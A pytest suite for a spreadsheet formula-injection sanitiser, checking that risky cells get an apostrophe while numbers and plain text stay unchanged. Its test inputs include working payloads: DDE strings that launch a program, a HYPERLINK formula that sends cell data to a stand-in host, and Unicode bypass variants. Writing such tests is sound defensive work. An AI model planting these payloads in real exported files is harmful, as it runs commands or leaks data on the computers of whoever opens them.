"""Cells that a spreadsheet would run."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workers.formulas import harmless


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://x.example/?"&A1)',
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@handle",
        "- cmd",
        "\t=1+1",
        "\ttext",
        "\rtext",
        "\ntext",
        " =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\0=1+1",
        "\uff1d1+1",
        "\uff0bcmd",
        "\uff0dcmd",
        "\uff20SUM(1)",
        "-5abc",
        "+49 123 call me",
        "+1-1",
        "-1-1",
        "-A1",
        "--A1",
        "=",
        "@",
    ],
)
def test_what_would_run_gets_an_apostrophe(cell: str):
    """OWASP's list, and the ways round it that were found in the field."""
    assert "'" + cell == harmless(cell)


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "Ann",
        "a=b",
        "ann@example.com",
        "e-mail",
        "'=1+1",
        "5",
        "-5",
        "+5",
        "- 5",
        "-1,234.50",
        "-1 234,50 %",
        "-1.5e-3",
        "-5%",
        "-$5.00",
        "-5 €",
        " -5 ",
        "+49 123",
        "+49 123 4567890",
        "+1 (555) 123-4567",
        "+49-89-1234567",
        "+49/89/1234567",
        "-",
        "--",
        "---",
        "(555) 123",
        "a\nb",
    ],
)
def test_numbers_and_plain_text_stay(cell: str):
    """The list that comes back must still be usable as one."""
    assert cell == harmless(cell)


def test_a_later_line_that_would_run_gets_one_too():
    """For programs that split a cell at its line ends."""
    assert "a\n'=1+1\r\n'@x\n'-cmd\nb" == harmless("a\n=1+1\r\n@x\n-cmd\nb")
    assert "' \n' =1" == harmless(" \n =1")
    assert "a\n'  =1" == harmless("a\n  =1")


def test_dashes_of_a_list_and_numbers_in_later_lines_stay():
    """They are what notes are full of, and no spreadsheet runs them there."""
    assert "Notes:\n- one\n- two\n-5" == harmless("Notes:\n- one\n- two\n-5")


@given(st.text(alphabet="=+-@\t\r\n \xa0'\uff1d15a(."))
def test_twice_is_as_good_as_once(cell: str):
    """A list that is sent in again does not grow."""
    once = harmless(cell)

    assert once == harmless(once)


@given(st.text())
def test_nothing_is_taken_away(cell: str):
    """Only apostrophes are added."""
    assert cell.replace("'", "") == harmless(cell).replace("'", "")


@given(st.text(alphabet=" \xa0\t\0\ufeff", max_size=5), st.sampled_from("=@\uff1d\uff20"), st.text())
def test_no_blanks_hide_a_sign(blanks: str, sign: str, rest: str):
    """Whatever spreadsheets skip is skipped here."""
    assert "'" == harmless(blanks + sign + rest)[0]


@pytest.mark.parametrize(
    "cell", ["\n" * 300_000 + "x=", "-" + " " * 300_000 + "x", "-1" * 200_000, " =\n" * 100_000]
)
def test_a_huge_cell_takes_no_longer_than_its_length(cell: str):
    """No pattern goes back and forth over it."""
    began = time.perf_counter()
    harmless(cell)

    assert time.perf_counter() - began < 2
